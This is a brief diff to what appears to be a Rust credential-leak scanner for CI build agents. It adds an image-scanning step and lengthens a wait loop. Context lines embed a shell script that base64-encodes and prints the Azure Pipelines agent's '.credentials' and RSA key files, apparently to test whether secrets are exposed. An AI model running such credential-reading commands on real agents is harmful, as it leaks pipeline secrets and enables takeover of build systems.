@@ -103,6 +103,9 @@ pub async fn scan(kind: Kind, hunter: &Path) -> Result<Scanned> {
     findings.extend(outside::follow_all(&seen, arguments).await?);
     target::upload(&stack, &agent.container, &[("go", Vec::new())]).await?;
     stack.job_state(&hunt.id, "completed").await?;
+    if kind == Kind::Mayfly {
+        findings.extend(outside::images(&seen).await?);
+    }
     agent.next(&stack).await?;
     let death = after_restart(&stack, &hunt.key).await?;
     findings.push(("exec-probe", probe::follow(&stack, &agent, &needles).await?));
@@ -150,7 +153,7 @@ impl Hunt {
 base64 -w 500 /azp/agent/.credentials | sed 's/^/credentials=/'
 base64 -w 500 /azp/agent/.credentials_rsaparams | sed 's/^/key=/'
 echo leakscan-waits
-for turn in $(seq 90); do
+for turn in $(seq 600); do
   [ -e {FOLDER}/go ] && break; sleep 1
 done
 echo leakscan-done"
